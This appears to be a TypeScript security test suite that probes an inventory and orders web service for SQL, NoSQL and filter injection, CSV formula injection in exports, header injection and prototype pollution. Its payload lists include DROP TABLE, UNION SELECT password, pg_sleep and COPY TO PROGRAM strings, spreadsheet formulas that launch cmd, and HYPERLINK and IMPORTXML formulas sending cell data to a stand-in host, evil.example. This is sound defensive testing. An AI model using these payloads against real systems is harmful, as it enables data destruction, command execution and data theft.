import { attack, type Outcome, share } from "./attack.ts";
import type { AttackWorld } from "./attack-world.ts";
import { call, leak, mutate, query, send } from "./request.ts";

/** Texts that mean something to a database when they are pasted into a statement. */
const statements = [
  "' OR '1'='1",
  "' OR 1=1--",
  "'; DROP TABLE orders;--",
  "' UNION SELECT password FROM auth.account--",
  "'; SELECT pg_sleep(20);--",
  "1) OR (1=1",
  "\\' OR 1=1--",
  "'||(SELECT current_setting('is_superuser'))||'",
  "%' OR title LIKE '%",
  "$$; SELECT pg_sleep(20); $$",
  "';COPY users TO PROGRAM 'id';--",
  "\u2019 OR 1=1--",
  "%27%20OR%201=1--",
  "{{7*7}}",
  ["$", "{7*7}"].join(""),
  "*)(objectClass=*",
];
/** Wildcards of LIKE stand for themselves: they find only what holds them. */
const wildcards = ["%", "_", "%%", "_%_", "\\", "\\%", "a\0b"];
/** Objects where a text is expected, as document databases read them. */
const operators = [{ $ne: null }, { $gt: "" }, ["a", "b"], { $where: "1" }, 0, true, null];

const searches = [
  "inventory.list",
  "orders.list",
  "listings.list",
  "resolution.list",
  "resolution.queue",
  "orders.sendable",
];
/** Where texts of the caller's choosing steer a query besides the search. */
const steering: readonly { path: string; input: unknown }[] = [
  { path: "inventory.list", input: { sort: { field: "title; DROP TABLE orders", direction: "asc" } } },
  { path: "inventory.list", input: { sort: { field: "title", direction: "asc; SELECT 1" } } },
  { path: "inventory.list", input: { sort: { field: "constructor", direction: "asc" } } },
  { path: "inventory.list", input: { location: "' OR '1'='1" } },
  { path: "inventory.list", input: { cursor: Buffer.from(`["' OR 1=1--","x"]`).toString("base64url") } },
  { path: "inventory.list", input: { cursor: "' OR 1=1--" } },
  {
    path: "orders.list",
    input: { cursor: Buffer.from(`["2026-01-01'; DROP TABLE orders;--","1"]`).toString("base64url") },
  },
  { path: "orders.list", input: { platform: "ebay' OR '1'='1" } },
  { path: "orders.list", input: { sku: "' OR '1'='1" } },
  { path: "orders.list", input: { country: "'O" } },
  { path: "resolution.list", input: { platform: "ebay'--" } },
  { path: "resolution.list", input: { cursor: "[object Object]" } },
  { path: "analytics.sales", input: { from: "2026-01-01'; DROP TABLE orders;--" } },
  { path: "analytics.sales", input: { step: "day'); DROP TABLE orders;--" } },
  { path: "analytics.salesSteps", input: { step: "constructor" } },
  { path: "jobs.list", input: { kind: "' OR '1'='1" } },
  { path: "finance.reconciliation", input: { from: "' OR '1'='1" } },
];

const restQueries = [
  "/api/ebay/resolution-queue?status=pending'--&limit=20",
  "/api/ebay/resolution-queue?limit=20%20OR%201=1",
  "/api/ebay'%20OR%20'1'='1/resolution-queue",
  "/api/v1/platforms/orders/pending?platform=ebay'%20OR%20'1'='1",
  "/api/v1/platforms/orders/pending?page=1;DROP%20TABLE%20orders",
  "/api/v1/platforms/orders/'%20OR%20'1'='1",
  "/api/v1/platforms/fulfillment/analytics?dateFrom=2026-01-01'--",
  "/api/v1/platforms/fulfillment/analytics?dateFrom[$ne]=1",
  "/api/export/analytics/sales.csv?from=2026-01-01'--",
  "/api/export/analytics/constructor.csv",
  "/api/export/documents/pick-list.pdf?order='%20OR%20'1'='1",
];

/** Texts that a program of the server's, or a spreadsheet, might run. */
export function describeInjection(world: () => AttackWorld): void {
  /** Bob's own workspace holds one item: a search that finds nothing must not find it. */
  const ready = async (): Promise<void> => {
    const { json } = await query(world(), "inventory.list", world().bob, { q: "plain-thing" });
    if (json.result.data.items.length > 0) return;
    await mutate(world(), "inventory.create", world().bob, { title: "plain-thing", status: "in_stock", quantity: 1 });
  };
  const timed = async (what: string, work: () => Promise<Outcome>): Promise<Outcome> => {
    const started = performance.now();
    const outcome = await work();
    return performance.now() - started > 15_000 ? `${what}: it slept` : outcome;
  };

  attack("SQL and filter injection", {
    name: "in every search",
    cases: () => searches.flatMap((path) => [...statements, ...wildcards].map((q) => ({ path, q }))),
    attempt: ({ path, q }) =>
      timed(`${path} ${q}`, async () => {
        await ready();
        const answered = await query(world(), path, world().bob, { q });
        if (answered.text.includes("plain-thing")) return `${path} finds everything by ${q}`;
        return answered.status === 200
          ? leak(answered)
          : `${path} by ${q}: ${answered.status} ${answered.text.slice(0, 200)}`;
      }),
  });

  attack("SQL and filter injection", {
    name: "by objects where texts are expected",
    cases: () => searches.flatMap((path) => operators.map((q) => ({ path, q }))),
    attempt: async ({ path, q }) => {
      const answered = await query(world(), path, world().bob, { q });
      return answered.status === 400 ? leak(answered) : `${path} takes ${JSON.stringify(q)}: ${answered.status}`;
    },
  });

  attack("SQL and filter injection", {
    name: "in filters, orders, cursors, dates and paths",
    cases: () => [...steering, ...restQueries],
    attempt: async (one) => {
      const { bob } = world();
      const answered =
        typeof one === "string"
          ? await send(world(), one, { as: bob })
          : await query(world(), one.path, bob, one.input);
      const what = typeof one === "string" ? one : JSON.stringify(one);
      if (answered.text.includes("plain-thing")) return `${what} finds everything`;
      return answered.status < 500 ? leak(answered) : `${what}: ${answered.status} ${answered.text.slice(0, 200)}`;
    },
  });

  attack("SQL and filter injection", {
    name: "in what is stored",
    cases: () => statements,
    attempt: async (text) => {
      const item = { title: `stored ${text}`, sku: text, location: text, note: text, status: "in_stock", quantity: 1 };
      const { json, ...answered } = await mutate(world(), "inventory.create", world().bob, item);
      const kept = json?.result?.data?.title;
      return kept === item.title.trim() ? null : (leak({ json, ...answered }) ?? `${text} became ${kept}`);
    },
  });

  describeFormulas(world);
  describePrototypes(world);
}

const formulas = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  "+1+1|cmd",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1',
  "'=1+1",
  '";=1+1',
  "＝1+1",
  " =1+1",
  "=1+1,=2+2",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "%0A=1+1",
];

function describeFormulas(world: () => AttackWorld): void {
  attack("formulas in exports", {
    name: "from every text of an item",
    cases: () => formulas,
    attempt: async (formula) => {
      const { bob } = world();
      const item = { title: formula, sku: formula, location: formula, note: formula, status: "in_stock", quantity: 1 };
      const made = await mutate(world(), "inventory.create", bob, item);
      if (made.status !== 200) return `${formula} was not stored: ${made.status}`;
      const { text, headers } = await send(world(), "/api/export/inventory.csv", { as: bob });
      if (!headers.get("content-disposition")?.startsWith("attachment")) return "the export is shown as a page";
      if (headers.get("x-content-type-options") !== "nosniff") return "a browser may guess the export's type";
      const running = cellsOf(text).find((cell) => /^[=+@\t\r\uFF1D\uFF0B\uFF20]|^-(?!\d+(\.\d+)?$)/.test(cell));
      return running === undefined ? null : `a spreadsheet runs ${JSON.stringify(running)}`;
    },
  });

  attack("formulas in exports", {
    name: "from reports, whose names and periods the caller chooses",
    cases: () => ["low-stock", "stock-age", "sales", "statuses", "=cmd", "sales.csv%0d%0aset-cookie:a=b"],
    attempt: async (report) => {
      const { text, headers, status } = await send(world(), `/api/export/analytics/${report}.csv`, { as: world().bob });
      if (headers.get("set-cookie")?.includes("a=b")) return `${report} set a cookie`;
      if (status !== 200) return null;
      const running = cellsOf(text).find((cell) => /^[=+@\t\r]/.test(cell));
      return running === undefined ? null : `a spreadsheet runs ${running} of ${report}`;
    },
  });
}

/** The cells of CSV text, as a spreadsheet reads them (RFC 4180). */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|\n|$)/gy;
  for (let found = pattern.exec(text); found !== null; found = pattern.exec(text)) {
    const [whole, cell = ""] = found;
    cells.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (whole === "" || pattern.lastIndex >= text.length) break;
  }
  return cells.map((cell) => cell.replace(/^\ufeff/, ""));
}

const polluting = [
  '{"__proto__":{"polluted":true},"title":"p","status":"in_stock","quantity":1}',
  '{"constructor":{"prototype":{"polluted":true}},"title":"p","status":"in_stock","quantity":1}',
  '{"json":{"__proto__":{"polluted":true}}}',
  '{"title":{"toString":"x"},"status":"in_stock","quantity":1}',
  '{"title":"p","status":"in_stock","quantity":1,"identifiers":[{"type":"__proto__","value":"x"}]}',
  '{"title":"p","status":"in_stock","quantity":1e999}',
];

function describePrototypes(world: () => AttackWorld): void {
  attack("mass assignment", {
    name: "of what all objects of the program share",
    cases: () => share(polluting, 1),
    attempt: async (body) => {
      const answered = await send(world(), "/trpc/inventory.create", { as: world().bob, body });
      const after = await call(world(), { path: "inventory.list", type: "query" }, { as: world().bob });
      if (answered.text.includes("polluted") || after.text.includes("polluted")) return `${body} is seen later`;
      return leak(answered) ?? (after.status === 200 ? null : `${body} broke the list: ${after.status}`);
    },
  });
}
